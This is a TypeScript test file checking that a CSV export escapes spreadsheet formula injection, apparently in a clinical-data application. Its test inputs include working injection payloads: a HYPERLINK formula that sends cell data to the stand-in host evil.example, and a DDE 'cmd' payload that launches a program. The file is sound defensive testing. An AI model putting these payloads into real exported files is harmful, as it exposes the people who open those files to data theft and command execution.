import { describe, expect, it } from 'vitest';
import { csvField, csvLine, neutraliseCell, toCsv } from '../../server/domain/csv.ts';

/** A minimal RFC 4180 reader, written independently of the writer, to read back what it wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

describe('CSV formula neutralisation', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+1+cmd|\' /C calc\'!A0',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
  ];

  it.each(hostile)('neutralises a cell starting a formula: %j', (text) => {
    const out = neutraliseCell(text);
    expect(out.startsWith("'")).toBe(true);
    expect(out.slice(1)).toBe(text);
    // Read back from a whole file, the cell no longer begins with a formula character.
    const [[cell]] = parseCsv(csvLine([text])) as [[string]];
    expect(cell).toBe(`'${text}`);
    expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
  });

  it('leaves ordinary text and numbers as they are', () => {
    expect(neutraliseCell('Lumbar radiculopathy')).toBe('Lumbar radiculopathy');
    expect(neutraliseCell('M54.16')).toBe('M54.16');
    expect(csvField(-2)).toBe('-2');
    expect(csvField(0.125)).toBe('0.125');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvField(true)).toBe('true');
    // a negative number that arrives as text is neutralised: callers pass numbers as numbers
    expect(csvField('-2')).toBe("'-2");
  });

  it('quotes commas, quotes and line breaks and reads back exactly', () => {
    const values = ['a,b', 'say "no"', 'two\nlines', 'plain', 3];
    const [back] = parseCsv(csvLine(values));
    expect(back).toEqual(['a,b', 'say "no"', 'two\nlines', 'plain', '3']);
  });

  it('writes a table with its header', () => {
    const text = toCsv(
      [
        { header: 'group', value: (r: { g: string; n: number }) => r.g },
        { header: 'n', value: (r) => r.n },
      ],
      [
        { g: 'ESI', n: 12 },
        { g: '=cmd', n: 3 },
      ],
    );
    expect(parseCsv(text)).toEqual([
      ['group', 'n'],
      ['ESI', '12'],
      ["'=cmd", '3'],
    ]);
  });
});
